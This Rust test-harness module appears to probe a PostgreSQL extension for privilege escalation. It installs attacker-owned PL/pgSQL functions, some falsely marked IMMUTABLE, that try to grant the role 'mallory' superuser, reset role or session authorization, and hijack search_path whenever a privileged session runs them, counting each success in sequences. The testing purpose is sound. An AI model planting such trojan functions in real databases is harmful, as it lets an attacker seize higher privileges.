//! Hostile code that says as whom it ran.
//!
//! Sequences count, because what they count is not undone with a transaction.

use crate::attack::stage::Stage;
use crate::session::Session;

/// What hostile code does, and the functions through which definitions reach it; for mallory.
///
/// `mal.inner_` makes mallory superuser if it can, leaves settings behind, and tries to leave the restricted operation that it should
/// be in wherever the session is not mallory's own. Functions that say IMMUTABLE call it by a query, which may write.
pub const WITNESS: &str = r#"
    CREATE SEQUENCE mal.tries;
    CREATE FUNCTION mal.count_(what text, place text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $$
    BEGIN
      PERFORM pg_catalog.nextval(pg_catalog.format('mal.%I', what || ' ' || place)::pg_catalog.regclass);
    EXCEPTION WHEN undefined_table THEN
      PERFORM pg_catalog.nextval(pg_catalog.format('mal.%I', what || ' elsewhere')::pg_catalog.regclass);
    END $$;
    CREATE FUNCTION mal.holds_back(times bigint) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
    BEGIN
      RETURN (times > 40 AND times % 50 > 0) OR current_setting('mal.quiet', true) IS NOT DISTINCT FROM 'on';
    END $$;
    CREATE FUNCTION mal.inner_(place text) RETURNS void VOLATILE LANGUAGE plpgsql AS $$
    DECLARE
      super boolean := (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user);
      times bigint;
    BEGIN
      PERFORM mal.count_('ran', place);
      IF super THEN
        PERFORM mal.count_('super', place);
        BEGIN
          EXECUTE 'ALTER ROLE mallory SUPERUSER';
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
      END IF;
      IF current_user OPERATOR(pg_catalog.<>) 'mallory'::pg_catalog.name THEN
        PERFORM mal.count_('other', place);
      END IF;
      IF session_user OPERATOR(pg_catalog.<>) 'mallory'::pg_catalog.name THEN
        PERFORM mal.count_('reached', place);
        -- It tries seldom, because it costs, and not where a try alone would keep a transaction from being prepared.
        times := pg_catalog.nextval('mal.tries');
        IF mal.holds_back(times) THEN
          RETURN;
        END IF;
        BEGIN
          CREATE TEMPORARY TABLE intruder ();
          DROP TABLE intruder;
          PERFORM mal.count_('free', place);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        BEGIN
          RESET ROLE;
          PERFORM mal.count_('free', place);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        BEGIN
          RESET SESSION AUTHORIZATION;
          PERFORM mal.count_('free', place);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        PERFORM pg_catalog.set_config('search_path', 'mal, pg_catalog', false);
        PERFORM pg_catalog.set_config('TimeZone', 'Asia/Kathmandu', false);
        PERFORM pg_catalog.set_config('pg_tviews.create_table_prefix', 'x', false);
        PERFORM pg_catalog.set_config('work_mem', '1MB', false);
      END IF;
    END $$;
    CREATE FUNCTION mal.evil_int(place text) RETURNS bigint IMMUTABLE LANGUAGE plpgsql AS $$
      BEGIN PERFORM mal.inner_(place); RETURN 1; END $$;
    CREATE FUNCTION mal.evil_of(x integer, place text) RETURNS bigint IMMUTABLE LANGUAGE plpgsql AS $$
      BEGIN PERFORM mal.inner_(place); RETURN x; END $$;
    CREATE FUNCTION mal.evil_text(place text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$
      BEGIN PERFORM mal.inner_(place); RETURN 'text'; END $$;
    CREATE FUNCTION mal.evil_bool(place text) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $$
      BEGIN PERFORM mal.inner_(place); RETURN true; END $$;
    CREATE FUNCTION mal.evil_trigger() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN PERFORM mal.inner_(TG_ARGV[0]); RETURN NULL; END $$;
"#;

/// The counters of a place; for mallory.
fn counters(place: &str) -> String {
    let create = |what| format!("CREATE SEQUENCE mal.\"{what} {place}\";");
    ["ran", "reached", "super", "other", "free"].map(create).concat()
}

/// What hostile code has managed so far: `super place`, `other place` or `free place`.
pub fn successes(superuser: &mut Session) -> Vec<String> {
    called(superuser, "^(super|other|free) ")
}

/// Where hostile code ran in a session that was not mallory's.
pub fn reached(superuser: &mut Session) -> Vec<String> {
    called(superuser, "^reached ")
}

fn called(superuser: &mut Session, pattern: &str) -> Vec<String> {
    let rows = superuser.rows(&format!(
        "SELECT sequencename FROM pg_catalog.pg_sequences
          WHERE schemaname = 'mal' AND last_value IS NOT NULL AND sequencename ~ '{pattern}' ORDER BY 1"
    ));
    let rows = rows.unwrap_or_else(|failure| panic!("{failure}"));
    rows.into_iter().flatten().flatten().collect()
}

/// Forgets what it has managed.
pub fn forget(superuser: &mut Session) {
    let sql = "SELECT pg_catalog.setval(pg_catalog.format('mal.%I', sequencename)::regclass, 1, false)
                 FROM pg_catalog.pg_sequences WHERE schemaname = 'mal' AND last_value IS NOT NULL AND sequencename ~ '^(super|other|free) '";
    superuser.rows(sql).unwrap_or_else(|failure| panic!("{failure}"));
}

/// Makes the witness, with counters for these places and one for all others.
pub fn install<'a>(stage: &Stage, places: impl IntoIterator<Item = &'a str>) {
    let mut session = stage.session("mallory");
    crate::sure::execute(&mut session, WITNESS);
    // A few at a time: one transaction has locks on all that it makes.
    let places: Vec<&str> = places.into_iter().chain(["elsewhere"]).collect();
    for places in places.chunks(100) {
        let all: String = places.iter().map(|place| counters(place)).collect();
        crate::sure::execute(&mut session, &all);
    }
    crate::sure::execute(
        &mut session,
        "GRANT USAGE ON ALL SEQUENCES IN SCHEMA mal TO PUBLIC",
    );
}
